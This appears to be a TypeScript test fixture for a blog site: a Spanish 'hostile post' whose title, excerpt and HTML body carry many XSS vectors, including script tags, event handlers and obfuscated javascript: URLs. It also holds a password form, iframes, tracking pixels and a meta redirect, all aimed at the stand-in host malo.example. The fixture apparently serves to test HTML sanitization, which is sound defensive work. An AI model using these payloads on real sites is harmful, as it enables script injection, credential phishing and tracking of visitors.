import type { Article } from '../article.ts';
import { ivan } from '../people.ts';
import { running } from '../tags.ts';

/** A post from a compromised account: any of its scripts that runs sets `document.title` to PWNED. */
export const hostilePost: Article = {
  id: '673b1c0a9d2e4f0001a00099',
  slug: 'un-articulo-con-malas-intenciones',
  title: 'Un artículo con malas intenciones <img src=x onerror="document.title=\'PWNED\'">',
  excerpt: '<script>document.title="PWNED"</script>Todo lo que un artículo no debería llevar.',
  publishedAt: '2026-11-20T09:00:00.000+01:00',
  authors: [ivan],
  tags: [running],
  picture: null,
  html: (site) => `<p>Este párrafo es inocente.</p>
<script>document.title = 'PWNED'</script>
<img src="${site.picture('inexistente')}" onerror="document.title='PWNED'" alt="Una imagen que no está">
<a href="javascript:document.title='PWNED'">Un enlace</a>
<a href=" java&#10;script:document.title='PWNED'">Otro enlace</a>
<svg onload="document.title='PWNED'"><script>document.title='PWNED'</script></svg>
<math><mi xlink:href="javascript:document.title='PWNED'">x</mi></math>
<iframe src="https://malo.example/marco" title="Marco"></iframe>
<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<form action="https://malo.example/"><input name="clave" type="password"><button>Entrar</button></form>
<style>body { display: none }</style>
<div style="position:fixed;inset:0;background:url(https://malo.example/pixel)">Una capa encima de todo</div>
<object data="https://malo.example/x"></object><embed src="https://malo.example/x">
<img src="https://malo.example/pixel.gif" alt="Un rastreador">
<base href="https://malo.example/"><meta http-equiv="refresh" content="0;url=https://malo.example/">
<p id="contenido">El último párrafo también es inocente.</p>`,
};
